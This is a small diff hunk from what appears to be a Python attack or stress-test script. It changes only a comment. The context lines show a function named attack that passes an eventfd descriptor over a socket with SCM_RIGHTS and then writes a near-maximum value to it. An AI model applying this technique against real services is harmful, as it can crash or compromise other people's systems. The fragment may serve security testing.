@@ -37,7 +37,7 @@ def attack(device):
         try:
             device.sendmsg([message], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [event]))])
         except OSError:
-            return  # it has had enough of us
+            return  # it has closed the connection
         time.sleep(0.05)
         fcntl.fcntl(event, fcntl.F_SETFL, fcntl.fcntl(event, fcntl.F_GETFL) & ~os.O_NONBLOCK)
         os.write(event, struct.pack("<Q", 0xFFFFFFFFFFFFFFFE))
